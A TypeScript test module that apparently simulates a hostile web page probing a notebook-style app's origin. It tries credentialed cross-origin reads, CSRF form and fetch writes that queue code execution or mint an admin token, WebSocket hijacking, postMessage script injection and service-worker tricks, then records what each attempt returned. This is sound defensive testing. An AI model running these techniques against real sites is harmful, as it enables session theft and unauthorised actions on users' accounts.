// What a hostile page tries: it runs in that page, against the address of a session's page, and tells what it got.

/** What came of one attempt; nothing when it got nothing. */
export type Attempt = { name: string; got: string | null };

/** Runs in a hostile page. `origin` is where the victim is logged in, without a slash at its end. */
export async function attack({ origin, session }: { origin: string; session: string }): Promise<Attempt[]> {
  const attempts: Attempt[] = [];
  const api = `${origin}/api/sessions/${session}`;
  const reads = [
    '/', '/frame.html', '/health', '/ready', '/metrics', '/api/me', '/api/tokens', '/api/openapi.json', '/api/sessions', `/api/sessions/${session}`,
    `/api/sessions/${session}/history`, `/api/sessions/${session}/export/notebook.ipynb`, `/api/sessions/${session}/export/orders.csv`, `/api/sessions/${session}/export/log.txt`, `/api/sessions/${session}/socket`,
  ];
  const command = JSON.stringify({ id: `attack-${Math.random()}`, command: { execute: { code: 'print("OWNED")' } } });
  const writes: [string, string, string][] = [
    ['POST', `${api}/commands`, command],
    ['POST', `${api}/commands`, JSON.stringify({ id: `attack-${Math.random()}`, command: 'flatten' })],
    ['POST', `${api}/share`, '{"ttl_seconds": 3600}'],
    ['POST', `${origin}/api/tokens`, '{"name": "owned", "role": "admin", "ttl_seconds": 3600, "session": null}'],
    ['DELETE', `${origin}/api/tokens/x`, ''],
    ['POST', `${origin}/api/logout`, ''],
    ['POST', `${origin}/api/login`, '{"token": "x"}'],
  ];
  const within = <T,>(what: Promise<T>, ms = 4_000): Promise<T | null> => Promise.race([what, new Promise<null>((late) => setTimeout(() => late(null), ms))]);
  const attempt = async (name: string, what: () => Promise<string | null>) => {
    const got = await within(what().catch(() => null));
    attempts.push({ name, got });
  };

  for (const path of reads) {
    for (const [kind, options] of Object.entries<RequestInit>({
      plain: {},
      'with credentials': { credentials: 'include' },
      'no-cors': { mode: 'no-cors', credentials: 'include' },
      'same-origin': { mode: 'same-origin', credentials: 'include' },
      'with a header': { credentials: 'include', headers: { 'x-qubx': '1' } },
      'with a token': { headers: { authorization: 'Bearer x' } },
      HEAD: { method: 'HEAD', credentials: 'include' },
      'without referrer': { credentials: 'include', referrerPolicy: 'no-referrer', cache: 'force-cache' },
    })) {
      await attempt(`fetch ${kind} ${path}`, async () => {
        const response = await fetch(origin + path, options);
        return `${response.type} ${response.status} ${await response.text()}`;
      });
    }
    await attempt(`XMLHttpRequest ${path}`, () => {
      const request = new XMLHttpRequest();
      request.open('GET', origin + path);
      request.withCredentials = true;
      return new Promise((resolve, reject) => {
        request.onload = () => resolve(request.responseText);
        request.onerror = reject;
        request.send();
      });
    });
    await attempt(`EventSource ${path}`, () => {
      const source = new EventSource(origin + path, { withCredentials: true });
      return new Promise<string>((resolve, reject) => {
        source.onopen = () => resolve('open');
        source.onmessage = ({ data }) => resolve(String(data));
        source.onerror = () => (source.close(), reject(new Error('refused')));
      });
    });
    for (const [tag, attribute, more] of [
      ['script', 'src', {}],
      ['script', 'src', { type: 'module', crossOrigin: 'use-credentials' }],
      ['img', 'src', {}],
      ['link', 'href', { rel: 'stylesheet' }],
      ['video', 'src', {}],
      ['object', 'data', {}],
      ['embed', 'src', {}],
    ] as const) {
      await attempt(`<${tag}> ${path}`, () => {
        const element = Object.assign(document.createElement(tag), more);
        element.setAttribute(attribute, origin + path);
        const loaded = new Promise<string | null>((resolve, reject) => {
          // An object that shows an error has loaded, too; what counts is what is in it.
          element.onload = () => resolve(tag === 'object' || tag === 'embed' ? null : 'loaded');
          element.addEventListener('loadeddata', () => resolve('loaded'));
          element.onerror = reject;
        });
        document.body.append(element);
        return within(loaded, 1_500);
      });
    }
    await attempt(`<iframe> ${path}`, () => {
      const frame = document.createElement('iframe');
      frame.src = origin + path;
      const answered = new Promise<string>((resolve) => {
        addEventListener('message', ({ source, data }) => source === frame.contentWindow && resolve(`answered ${String(data)}`));
        frame.onload = () => {
          for (const message of [{ html: '<script>parent.postMessage("OWNED", "*")</script>' }, 'x', 1]) frame.contentWindow?.postMessage(message, '*');
        };
      });
      document.body.append(frame);
      return within(answered, 700).then((answer) => {
        const text = (() => {
          try {
            return frame.contentDocument?.body.innerText || null;
          } catch {
            return null;
          }
        })();
        frame.remove();
        return answer ?? text;
      });
    });
  }

  for (const [method, address, body] of writes) {
    for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data', 'application/json', 'text/plain; application/json', '']) {
      for (const mode of ['cors', 'no-cors'] as const) {
        await attempt(`fetch ${method} ${type} ${mode} ${address}`, async () => {
          const response = await fetch(address, { method, mode, credentials: 'include', body: body || null, ...(type ? { headers: { 'content-type': type } } : {}) });
          return `${response.type} ${response.status} ${await response.text()}`;
        });
      }
    }
    await attempt(`fetch ${method} with the header ${address}`, async () => {
      const response = await fetch(address, { method, credentials: 'include', body: body || null, headers: { 'content-type': 'application/json', 'x-qubx': '1' } });
      return `${response.status} ${await response.text()}`;
    });
    navigator.sendBeacon(address, new Blob([body], { type: 'text/plain' }));
    for (const enctype of ['application/x-www-form-urlencoded', 'text/plain', 'multipart/form-data']) {
      for (const override of ['', '?_method=DELETE', '?x-qubx=1']) {
        await attempt(`form ${enctype} ${address}${override}`, () => {
          const frame = Object.assign(document.createElement('iframe'), { name: `f${Math.random()}` });
          const form = Object.assign(document.createElement('form'), { action: address + override, method: 'post', enctype, target: frame.name });
          // Sent as text, it is the JSON and an equals sign that is in a string.
          const [name, value] = [body.replace(/}$/, ', "x": "'), '"}'];
          form.append(Object.assign(document.createElement('input'), { name, value }), Object.assign(document.createElement('input'), { name: 'x-qubx', value: '1' }));
          document.body.append(frame, form);
          const loaded = new Promise<string | null>((resolve) => (frame.onload = () => resolve(null)));
          form.submit();
          return within(loaded, 2_000);
        });
      }
    }
  }

  for (const path of [`/api/sessions/${session}/socket`, '/', '/api/me']) {
    for (const protocols of [[], ['qubx', 'x-qubx.1'], ['Bearer', 'x']]) {
      await attempt(`WebSocket ${path} ${protocols.join()}`, () => {
        const socket = new WebSocket(origin.replace('http', 'ws') + path, protocols);
        return new Promise((resolve, reject) => {
          socket.onopen = () => resolve('open');
          socket.onmessage = ({ data }) => resolve(String(data));
          socket.onerror = reject;
        });
      });
    }
  }

  await attempt('service worker of another origin', async () => String(await navigator.serviceWorker.register(`${origin}/frame.html`)));
  await attempt('service worker of ones own, over the other origin', async () => String(await navigator.serviceWorker.register('/worker.js', { scope: `${origin}/` })));
  await attempt('a worker of another origin', async () => (new Worker(`${origin}/frame.html`), null));
  await attempt('import of a module', async () => JSON.stringify(await import(`${origin}/api/me`)));
  await attempt('what the browser measured', async () => {
    const told = performance.getEntriesByType('resource').filter((entry) => entry.name.startsWith(origin)) as PerformanceResourceTiming[];
    const sized = told.filter(({ encodedBodySize, decodedBodySize }) => encodedBodySize + decodedBodySize > 0);
    return sized.length > 0 ? sized.map(({ name }) => name).join() : null;
  });
  return attempts;
}

/** Runs in a hostile page after a click: opens the page in a window of its own and tells what it can reach of it. */
export async function openWindow({ origin }: { origin: string }): Promise<string[]> {
  const opened = window.open(`${origin}/`, 'victim');
  const answers: string[] = [];
  if (!opened) return ['it cannot be opened'];
  addEventListener('message', ({ origin: from, data }) => from === origin && answers.push(`answered ${JSON.stringify(data)}`));
  const end = Date.now() + 5_000;
  // Once the other page is there, this one has lost hold of it.
  while (!opened.closed && Date.now() < end) await new Promise((next) => setTimeout(next, 50));
  if (!opened.closed) answers.push('it is still held');
  for (const message of [{ html: '<script>opener.postMessage(1, "*")</script>' }, { command: { id: 'x', command: { execute: { code: 'print("OWNED")' } } } }, 'x']) {
    opened.postMessage(message, '*');
  }
  for (const [what, look] of Object.entries<() => unknown>({
    document: () => opened.document.title,
    frames: () => (opened.length > 0 ? opened.length : Promise.reject()),
    address: () => opened.location.href,
    storage: () => opened.localStorage.length,
  })) {
    try {
      const got = look();
      if (!(got instanceof Promise)) answers.push(`${what}: ${String(got)}`);
      else got.catch(() => {});
    } catch {
      // It is refused.
    }
  }
  return answers;
}
